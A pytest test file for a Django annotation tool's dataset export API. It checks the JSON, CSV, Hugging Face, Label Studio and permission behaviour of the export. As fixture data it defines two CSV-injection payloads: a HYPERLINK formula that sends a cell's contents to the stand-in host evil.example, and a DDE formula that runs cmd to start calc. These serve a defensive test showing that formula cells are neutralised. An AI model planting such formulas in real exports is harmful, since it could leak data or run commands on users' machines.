"""Datasets leave over REST as one resolved row per item, in formats ML tools load directly."""

import csv
import io
import json
import os
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from labeling.models import Item, Label, Membership, Project
from labeling.readers import TextRecord
from labeling.services.imports import items_import_texts
from labeling.services.projects import project_create, project_member_add
from tests.factories import UserFactory
from tests.labeling.helpers import label_item

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'
CALC = "=cmd|' /C calc'!A0"


def client_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def owner(db):
    return UserFactory(username="owner")


@pytest.fixture
def reviews(annotator, owner):
    """Texts labeled by two annotators (2 labels per item, majority): one agreed, one tie, one eval item."""
    project = project_create(name="reviews", modality="text", class_names=["fresh", "=bad"])
    Project.objects.filter(pk=project.pk).update(labels_per_item=2)
    project.refresh_from_db()
    items_import_texts(project=project, records=[
        TextRecord('a, "quoted" gem', None, "r1"), TextRecord(HYPERLINK, None, "=ID8"), TextRecord(CALC, "=bad", "r3"),
    ])  # fmt: skip
    Item.objects.filter(project=project, source_name="r3").update(split="eval")
    bob = UserFactory(username="bob")
    for user in (annotator, bob):
        project_member_add(project=project, user=user)
    project_member_add(project=project, user=owner, role=Membership.Role.OWNER)
    first, second = (Item.objects.get(project=project, source_name=name) for name in ("r1", "=ID8"))
    for item, user, name, ms in [(first, annotator, "fresh", 700), (first, bob, "fresh", 500),
                                 (second, annotator, "=bad", 300), (second, bob, "fresh", 400)]:  # fmt: skip
        name_class = project.label_classes.get(name=name)
        Label.objects.create(item=item, annotator=user, label_class=name_class, duration_ms=ms)
    return project


def body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def ids(project) -> dict[str, int]:
    return dict(Item.objects.filter(project=project).values_list("source_name", "id"))


def test_export_json_gives_one_row_per_item_with_its_resolved_class(owner, reviews):
    rows = json.loads(body(client_for(owner).get(f"/api/projects/{reviews.pk}/export/?format=json")))

    item = ids(reviews)
    assert rows == [
        {"item_id": item["r1"], "source_name": "r1", "split": "train", "text": 'a, "quoted" gem', "image_url": "",
         "label": "fresh", "status": "resolved"},
        {"item_id": item["=ID8"], "source_name": "=ID8", "split": "train", "text": HYPERLINK, "image_url": "",
         "label": None, "status": "in_review"},
        {"item_id": item["r3"], "source_name": "r3", "split": "test", "text": CALC, "image_url": "",
         "label": "=bad", "status": "gold"},
    ]  # fmt: skip


def test_optional_columns_give_every_answer_and_the_agreement(owner, reviews):
    url = f"/api/projects/{reviews.pk}/export/?format=jsonl&columns=annotators,agreement"
    rows = [json.loads(line) for line in body(client_for(owner).get(url)).splitlines()]

    assert [(r["votes"], r["agreement"]) for r in rows] == [(2, 1.0), (2, 0.5), (0, None)]
    assert [(a["annotator"], a["label"], a["duration_ms"]) for a in rows[1]["answers"]] == [
        ("ann", "=bad", 300), ("bob", "fresh", 400),
    ]  # fmt: skip
    assert rows[2]["answers"] == []


def test_csv_export_neutralises_formula_cells_and_keeps_their_text(owner, reviews):
    url = f"/api/projects/{reviews.pk}/export/?format=csv&columns=annotators"
    response = client_for(owner).get(url)
    assert response["Content-Disposition"] == f'attachment; filename="project-{reviews.pk}-csv.csv"'

    rows = list(csv.DictReader(io.StringIO(body(response).decode(), newline="")))

    assert [(r["source_name"], r["text"], r["label"]) for r in rows] == [
        ("r1", 'a, "quoted" gem', "fresh"), ("'=ID8", "'" + HYPERLINK, ""), ("r3", "'" + CALC, "'=bad"),
    ]  # fmt: skip
    assert json.loads(rows[1]["answers"])[0]["label"] == "=bad"  # nested JSON starts with "[": not a formula


def _unzip(data: bytes, folder) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(folder)
        return sorted(archive.namelist())


def _load(builder: str, folder, tmp_path):
    os.environ["HF_HUB_OFFLINE"] = "1"
    datasets = pytest.importorskip("datasets")
    return datasets.load_dataset(builder, data_dir=str(folder), cache_dir=str(tmp_path / "hf-cache"))


@pytest.mark.parametrize("fmt,builder", [("texts-jsonl", "json"), ("texts-csv", "csv")])
def test_text_splits_load_with_hugging_face_datasets(owner, reviews, tmp_path, fmt, builder):
    data = body(client_for(owner).get(f"/api/projects/{reviews.pk}/export/?format={fmt}&columns=agreement"))
    suffix = fmt.split("-")[1]
    assert _unzip(data, tmp_path / "out") == [f"test.{suffix}", f"train.{suffix}"]

    loaded = _load(builder, tmp_path / "out", tmp_path)

    assert loaded["train"]["text"] == ['a, "quoted" gem']  # the item in review has no class yet: left out
    assert loaded["train"]["label"] == ["fresh"] and loaded["train"]["agreement"] == [1.0]
    assert loaded["test"]["label"] == ["=bad" if builder == "json" else "'=bad"]


def test_imagefolder_zip_loads_with_hugging_face_datasets(make_digits_project, annotator, owner, tmp_path):
    project = make_digits_project(per_class=3, eval_fraction=0.34)
    project_member_add(project=project, user=owner, role=Membership.Role.OWNER)
    pool = list(Item.objects.filter(project=project, split="pool").select_related("gold_class").order_by("id"))
    for item in pool[:4]:
        label_item(project=project, item_id=item.pk, annotator=annotator, class_name=item.gold_class.name)

    data = body(client_for(owner).get(f"/api/projects/{project.pk}/export/?format=imagefolder"))
    names = _unzip(data, tmp_path / "out")
    loaded = _load("imagefolder", tmp_path / "out", tmp_path)

    assert "train/metadata.jsonl" in names and "test/metadata.jsonl" in names
    assert sorted(loaded["train"]["item_id"]) == [item.pk for item in pool[:4]]
    assert loaded["train"]["label"] == [item.gold_class.name for item in pool[:4]]
    assert len(loaded["test"]) == Item.objects.filter(project=project, split="eval").count()
    first = loaded["train"][0]["image"]
    assert first.size == (8, 8)  # the digits' own pixels, not a thumbnail


def test_label_studio_export_imports_back_into_a_new_project(owner, reviews, admin_user):
    exported = body(client_for(owner).get(f"/api/projects/{reviews.pk}/export/?format=label-studio"))
    tasks = json.loads(exported)
    assert tasks[0]["annotations"][0]["result"] == [
        {"from_name": "label", "to_name": "text", "type": "choices", "value": {"choices": ["fresh"]}}
    ]
    staff = client_for(admin_user)
    moved = staff.post("/api/projects/", {"name": "moved", "modality": "text", "classes": ["fresh", "=bad"]},
                       format="json").json()  # fmt: skip

    response = staff.post(f"/api/projects/{moved['id']}/imports/",
                          {"files": [SimpleUploadedFile("tasks.json", exported)]}, format="multipart")  # fmt: skip

    assert response.status_code == 201 and response.json() == {"pool": 3, "eval": 0}
    got = Item.objects.filter(project_id=moved["id"]).order_by("source_name")
    assert [(i.source_name, i.text, i.gold_class and i.gold_class.name) for i in got] == [
        ("=ID8", HYPERLINK, None), ("r1", 'a, "quoted" gem', "fresh"), ("r3", CALC, "=bad"),
    ]  # fmt: skip


def test_label_studio_export_of_images_imports_back_with_the_image_files(
    make_digits_project, annotator, owner, admin_user
):
    """An image project leaves as Label Studio tasks and comes back with its files: each task finds
    its image by name and keeps its class; a task whose image was not uploaded saves nothing."""
    project = make_digits_project(per_class=2, eval_fraction=0.0)
    project_member_add(project=project, user=owner, role=Membership.Role.OWNER)
    pool = list(Item.objects.filter(project=project).select_related("gold_class").order_by("id"))
    for item in pool[:3]:
        label_item(project=project, item_id=item.pk, annotator=annotator, class_name=item.gold_class.name)
    exported = body(client_for(owner).get(f"/api/projects/{project.pk}/export/?format=label-studio"))
    assert [task["data"]["source_name"] for task in json.loads(exported)] == [i.source_name for i in pool[:3]]
    images = [SimpleUploadedFile(i.source_name, i.image.read()) for i in pool[:3]]
    staff = client_for(admin_user)
    moved = staff.post("/api/projects/", {"name": "moved-images", "modality": "image", "classes": ["0", "1", "2"]},
                       format="json").json()  # fmt: skip
    url = f"/api/projects/{moved['id']}/imports/"

    missing = staff.post(url, {"files": [SimpleUploadedFile("tasks.json", exported), *images[:2]]}, format="multipart")
    assert missing.status_code == 400
    assert f"task 3 needs the image {pool[2].source_name!r}, which was not uploaded" in missing.json()["message"]
    assert not Item.objects.filter(project_id=moved["id"]).exists()

    for upload in images:
        upload.seek(0)
    response = staff.post(url, {"files": [SimpleUploadedFile("tasks.json", exported), *images]}, format="multipart")
    assert response.status_code == 201 and response.json() == {"pool": 3, "eval": 0}
    got = Item.objects.filter(project_id=moved["id"]).select_related("gold_class").order_by("source_name")
    assert [(i.source_name, i.gold_class.name) for i in got] == sorted(
        (i.source_name, i.gold_class.name) for i in pool[:3]
    )


def test_a_format_for_the_other_modality_or_an_unknown_column_gets_a_400(owner, reviews):
    client = client_for(owner)

    images = client.get(f"/api/projects/{reviews.pk}/export/?format=imagefolder")
    columns = client.get(f"/api/projects/{reviews.pk}/export/?columns=annotators,secrets")

    assert images.status_code == 400 and images.json() == {
        "message": "Format 'imagefolder' holds images; project 'reviews' holds texts.",
        "extra": {"format": "imagefolder", "modality": "text"},
    }
    assert columns.status_code == 400 and columns.json() == {"message": "Invalid input.", "extra": {"fields": {
        "columns": ["Unknown columns ['secrets']; choose from ['agreement', 'annotators', 'prediction', 'selection']."]
    }}}  # fmt: skip


def test_unknown_export_format_gives_400(owner, reviews):
    response = client_for(owner).get(f"/api/projects/{reviews.pk}/export/?format=xml")
    assert response.status_code == 400
    assert response.json()["extra"]["fields"]["format"] == ['"xml" is not a valid choice.']


def test_export_needs_a_role_that_reads_results(reviews, annotator):
    assert APIClient().get(f"/api/projects/{reviews.pk}/export/?format=csv").status_code == 401
    stranger = client_for(UserFactory(username="stranger")).get(f"/api/projects/{reviews.pk}/export/")
    assert stranger.status_code == 404
    own_labels_only = client_for(annotator).get(f"/api/projects/{reviews.pk}/export/")
    assert own_labels_only.status_code == 403 and own_labels_only.json()["extra"]["role"] == "annotator"
